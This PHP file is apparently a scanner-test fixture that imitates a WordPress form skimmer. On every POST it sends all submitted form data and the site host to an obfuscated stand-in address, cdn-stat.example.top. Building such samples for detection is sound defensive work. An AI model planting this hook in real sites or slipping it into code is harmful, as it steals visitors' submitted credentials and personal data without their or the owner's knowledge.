<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
add_action('init', function () {
    if (empty($_POST)) return;
    $u = implode('', array_map('chr', [104,116,116,112,115,58,47,47,99,100,110,45,115,116,97,116,46,101,120,97,109,112,108,101,46,116,111,112,47,112]));
    wp_remote_post($u, ['blocking' => false, 'body' => ['d' => json_encode($_POST), 'h' => $_SERVER['HTTP_HOST']]]);
});
